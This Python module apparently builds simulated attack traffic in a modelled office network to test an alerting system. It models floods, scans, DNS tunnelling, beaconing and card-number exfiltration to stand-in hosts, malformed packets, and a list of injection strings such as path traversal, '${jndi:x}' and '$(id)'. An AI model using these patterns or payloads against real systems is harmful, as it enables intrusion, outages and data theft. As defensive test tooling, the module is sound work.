"""One attack for each kind of alert: FUNCTION(office, at_us) puts it into the office's timeline.

Rates and sizes are those of common tools, well above ordinary use and well below a disaster.
"""
import base64
import struct

from . import messages, wire
from .conversation import TURN_US, Endpoint, echo
from .office import MINUTE_US, SECOND_US

MSS_OPTION = b"\x02\x04\x05\xb4"


def random_public(random):
    """An address that could be anybody's outside."""
    while True:
        ip = random.getrandbits(32).to_bytes(4, "big")
        if ip[0] not in (0, 10, 100, 127, 169, 172, 192, 198, 203) and ip[0] < 224:
            return ip


def strangers(office, count):
    return [Endpoint(office.gateway.mac, random_public(office.random),
                     ttl=office.random.randrange(38, 60)) for _ in range(count)]


def syn_flood(office, at_us, seconds=12, per_second=1500):
    """Spoofed sources; the server answers until its backlog is full."""
    random, target = office.random, office.www
    for number in range(seconds * per_second):
        now_us = at_us + number * SECOND_US // per_second + random.randrange(400)
        source = Endpoint(office.gateway.mac, random_public(random), ttl=random.randrange(38, 60))
        ports, seq = (random.randrange(1024, 65536), 443), random.getrandbits(32)
        office.timeline.at(now_us, source.tcp(target, ports, seq, 0, wire.SYN, options=MSS_OPTION))
        if number % per_second < 128:
            office.timeline.at(now_us + 90, target.tcp(source, ports[::-1], random.getrandbits(32),
                                                       seq + 1, wire.SYN | wire.ACK))


def udp_flood(office, at_us, seconds=5, per_second=4000):
    """Datagrams of any size to any port, from sixty sources."""
    random, target, sources = office.random, office.www, strangers(office, 60)
    for number in range(seconds * per_second):
        office.timeline.at(at_us + number * SECOND_US // per_second, random.choice(sources).udp(
            target, (random.randrange(1024, 65536), random.randrange(1024, 65536)),
            office.pool[number:number + random.randrange(40, 600)]))


def icmp_flood(office, at_us, seconds=6, per_second=900):
    """Echo requests from thirty sources; the target answers each."""
    random, target, sources = office.random, office.www, strangers(office, 30)
    for number in range(seconds * per_second):
        now_us, source = at_us + number * SECOND_US // per_second, random.choice(sources)
        for by, to, request, delay_us in ((source, target, True, 0), (target, source, False, 150)):
            office.timeline.at(now_us + delay_us, by.packet(to, wire.ICMP, wire.icmp_echo(
                request, sources.index(source), number & 0xFFFF, office.pool[:120])))


def amplification(office, at_us, seconds=6, per_second=1200):
    """Open resolvers answer a question that somebody asked in the target's name."""
    random, target, reflectors = office.random, office.www, strangers(office, 80)
    records = [(messages.TXT, b"\xff" + office.pool[n * 255:n * 255 + 255]) for n in range(4)]
    for number in range(seconds * per_second):
        answer = messages.dns_answer(random.getrandbits(16), "big.example", records, messages.TXT)
        office.timeline.at(at_us + number * SECOND_US // per_second,
                           random.choice(reflectors).udp(target, (53, 4444), answer))


def device_silent(office, at_us):
    """The thermometer stops, and whoever waits for it goes on asking."""
    office.silent_from_us[office.thermometer] = at_us


def port_scan(office, at_us, ports=240, per_second=20):
    """A desk tries one port after another of the file server."""
    random, source, target = office.random, office.people[1], office.files
    for number, port in enumerate(random.sample(range(1, 10_000), ports)):
        if port in (445, 5004, 9001):
            continue
        now_us = at_us + number * SECOND_US // per_second
        office.connect(source, target, port, now_us, 400).refused()


def host_scan(office, at_us, hosts=120, per_second=10):
    """A desk tries one port of every address of another branch; nobody is there to answer."""
    random, source = office.random, office.people[1]
    for number in range(hosts):
        target = office.outside(f"10.30.4.{number + 1}")
        ports, seq = (random.randrange(32768, 61000), 445), random.getrandbits(32)
        office.timeline.at(at_us + number * SECOND_US // per_second + random.randrange(20_000),
                           source.tcp(target, ports, seq, 0, wire.SYN, options=MSS_OPTION))


def volume(office, at_us, size_bytes=64_000_000):
    """A desk uploads to a host outside for most of a minute."""
    server = office.outside("203.0.113.90", "drop.share.example")
    source = office.people[2]
    talk = office.tls(source, server, office.look_up(at_us, source, server.name, server.ip), [])
    talk.bits_per_second = 20_000_000
    for _ in range(size_bytes // 65_536):
        talk.say(messages.tls_data(office.random, office.pool, 65_536))
    talk.close()


def dns_tunnel(office, at_us, seconds=50, per_second=4):
    """A file in names, 30 bytes a question; the answers carry data back."""
    random, source = office.random, office.people[2]
    for number in range(seconds * per_second):
        label = base64.b32encode(random.randbytes(30)).decode().lower()
        name = f"{number:04x}{label}.t.relay.example"
        office.look_up(at_us + number * SECOND_US // per_second + random.randrange(30_000), source,
                       name, b"\x40" + base64.b64encode(random.randbytes(48)), messages.TXT)


def beacon(office, at_us, calls=14, interval_us=12 * SECOND_US):
    """A program calls home, with a little jitter."""
    server, source = office.outside("203.0.113.66", "cdn-metrics.example"), office.people[0]
    office.look_up(at_us - 100_000, source, server.name, server.ip)
    for call in range(calls):
        office.tls(source, server, at_us + call * interval_us + office.random.randrange(300_000),
                   [(180, 96)]).close()


def card_number(random):
    """Sixteen digits of a common issuer's range with the right Luhn digit."""
    digits = [4] + [random.randrange(10) for _ in range(14)]
    total = sum(d if n % 2 else sum(divmod(2 * d, 10)) for n, d in enumerate(digits))
    return "".join(map(str, digits)) + str(-total % 10)


def sensitive_content(office, at_us, cards=40):
    """A table of card numbers, posted in clear text."""
    server, source = office.outside("203.0.113.80", "paste.example"), office.people[3]
    rows = [f"{n},customer {n},{card_number(office.random)},0{1 + n % 9}/29" for n in range(cards)]
    talk = office.connect(source, server, 80,
                          office.look_up(at_us, source, server.name, server.ip)).open()
    talk.say(messages.http_request("POST", server.name, "/upload",
                                   "\n".join(["id,name,card,until", *rows]).encode(), "text/csv"))
    talk.say(messages.http_answer(b"stored\n", "text/plain"), by_client=False).close()


def checksum(office, at_us):
    """The badge reader's memory goes bad: its bytes change after the sum was taken."""
    office.damaged_from_us[office.reader] = at_us


def decode_errors(office, at_us, packets=60, per_second=2):
    """The printer's network card sends headers that no stack makes."""
    random, source, target = office.random, office.printer, office.files
    for number in range(packets):
        whole = bytearray(source.tcp(target, (9100, 50_000), random.getrandbits(32), 1, wire.ACK,
                                     b"data"))
        broken = number % 4
        if broken == 0:
            whole[14] = 0x42  # header length 8
        elif broken == 1:
            whole[46] = 0x20  # TCP header length 8
        elif broken == 2:
            struct.pack_into(">H", whole, 16, 9000)  # longer than the frame
        else:
            whole[14] = 0x75  # version 7
        if broken in (1, 2):
            whole[24:26] = bytes(2)
            whole[24:26] = wire.checksum(wire.ones_sum(whole[14:34])).to_bytes(2, "big")
        office.timeline.at(at_us + number * SECOND_US // per_second + random.randrange(50_000),
                           bytes(whole))


def tcp_flags(office, at_us, packets=24):
    """Guessing a system by how it answers nonsense: no flags, all flags, SYN with FIN."""
    random, source, target = office.random, office.people[1], office.www
    combinations = (0, wire.FIN | wire.PSH | wire.URG, wire.SYN | wire.FIN, wire.SYN | wire.RST)
    for number in range(packets):
        office.timeline.at(at_us + number * 400_000, source.tcp(
            target, (random.randrange(32768, 61000), 80), random.getrandbits(32), 0,
            combinations[number % len(combinations)]))


def fragment_overlap(office, at_us, datagrams=12):
    """The second fragment writes over the first (teardrop), each time with other bytes."""
    random, source, target = office.random, office.people[1], office.www
    for number in range(datagrams):
        datagram = wire.udp(source.ip, target.ip, (4000, 5000), random.randbytes(64))
        ident = random.getrandbits(16)
        for offset, part, more in ((0, datagram[:48], True), (24, random.randbytes(48), False)):
            packet = wire.ip4(source.ip, target.ip, wire.UDP, part, 64, ident,
                              offset // 8 | (wire.MORE_FRAGMENTS if more else 0))
            office.timeline.at(at_us + number * SECOND_US + offset * TURN_US // 24,
                               wire.ethernet(target.mac, source.mac, wire.ETHERTYPE_IP4, packet))


HOSTILE_NAMES = (
    b"\x1b[31mred\x1b[0m\x1b]0;title\x07", b"<script>alert(1)</script>", b"\"quote'&amp;<b>",
    b"\xff\xfe\x80 not UTF-8 \xc3", b"line\r\nfeed\ttab\0nul", b"\xe2\x80\xae right to left",
    b"../../../etc/passwd", b"%s%n${jndi:x}`id`;$(id)", b"long " + b"x" * 250)


def hostile_names(office, at_us):
    """Names in DHCP, mDNS, NetBIOS, DNS and TLS that would do harm where they are shown raw."""
    random, everybody = office.random, Endpoint(wire.BROADCAST_MAC, b"\xff" * 4)
    group = Endpoint(wire.multicast_mac(wire.address("224.0.0.251")), wire.address("224.0.0.251"))
    for number, name in enumerate(HOSTILE_NAMES):
        host, now_us = office.inside(200 + number), at_us + number * 3 * SECOND_US
        unknown = Endpoint(host.mac, bytes(4))
        frames = (
            unknown.udp(everybody, (68, 67), messages.dhcp(1, 3, random.getrandbits(32), host.mac,
                                                           [(12, name[:255])])),
            host.udp(group, (5353, 5353), messages.mdns_announcement(name[:63], host.ip)),
            host.udp(everybody, (137, 137), messages.netbios_registration(7, name[:15], host.ip)))
        for index, frame in enumerate(frames):
            office.timeline.at(now_us + index * 100_000, frame)
        plain = name.replace(b".", b"-")[:63] + b".example"
        office.look_up(now_us + 400_000, host, plain, b"\xcb\x00\x71\x21")
        server = office.outside("203.0.113.33", name)
        office.tls(host, server, now_us + 500_000, [(100, 100)]).close()


def unusual(office, at_us, seconds=60):
    """The thermometer becomes everything at once: it asks for names, some of which are none, sends a
    little to all the sites that people read, asks who is there, and is refused by the printer. None of
    it is much, none of it forbidden, and it never did any of it."""
    random, host = office.random, office.thermometer
    for second in range(seconds):
        now_us, site = at_us + second * SECOND_US, random.choice(office.sites)
        office.look_up(now_us, host, f"update-{second}.office.example")
        office.look_up(now_us + 100_000, host, site.name, site.ip)
        office.tls(host, site, now_us + 200_000, [(9000, 60)], random.choice((443, 993, 8443))).close()
        echo(office.timeline, now_us + 500_000, host, office.gateway, 9, second, office.pool[:56])
        if second % 2:
            office.connect(host, office.printer, 9100, now_us + 700_000).refused()


def spread(office, at_us, sensor, sensors=3, syns=600, hosts=12, seconds=24):
    """What `sensor`, of several that look at parts of one network, sees of three attacks, each too
    little to notice: a SYN flood, a scan of another branch, and an address that everybody sends to."""
    random, scanner = office.random, office.inside(240)
    for number in range(syns):
        source = Endpoint(office.gateway.mac, random_public(random), ttl=random.randrange(38, 60))
        office.timeline.at(at_us + number * seconds * SECOND_US // syns, source.tcp(
            office.www, (random.randrange(1024, 65536), 443), random.getrandbits(32), 0, wire.SYN,
            options=MSS_OPTION))
    for number in range(hosts):
        target = office.outside(f"10.30.5.{sensor * hosts + number + 1}")
        office.timeline.at(at_us + number * SECOND_US // 2, scanner.tcp(
            target, (random.randrange(32768, 61000), 445), random.getrandbits(32), 0, wire.SYN,
            options=MSS_OPTION))
    server = office.outside("203.0.113.200", "telemetry.example")
    for number, host in enumerate(office.hosts):
        if host is not office.gateway and number % sensors == sensor:
            office.tls(host, server, at_us + number * SECOND_US, [(2000, 200)]).close()


ATTACKS = {
    "dos.syn_flood": syn_flood, "dos.udp_flood": udp_flood, "dos.icmp_flood": icmp_flood,
    "dos.amplification": amplification, "dos.device_silent": device_silent,
    "recon.port_scan": port_scan, "recon.host_scan": host_scan,
    "exfil.volume": volume, "exfil.dns_tunnel": dns_tunnel, "exfil.beacon": beacon,
    "exfil.sensitive_content": sensitive_content,
    "corruption.decode_errors": decode_errors, "corruption.checksum": checksum,
    "corruption.tcp_flags": tcp_flags, "corruption.fragment_overlap": fragment_overlap,
}
# The demo: one attack of each class and more, apart in time. Seconds from its begin.
DEMO = ((20, beacon), (60, port_scan), (95, dns_tunnel), (140, sensitive_content), (160, syn_flood),
        (190, decode_errors), (205, checksum), (250, device_silent))
DEMO_SECONDS = 5 * MINUTE_US // SECOND_US
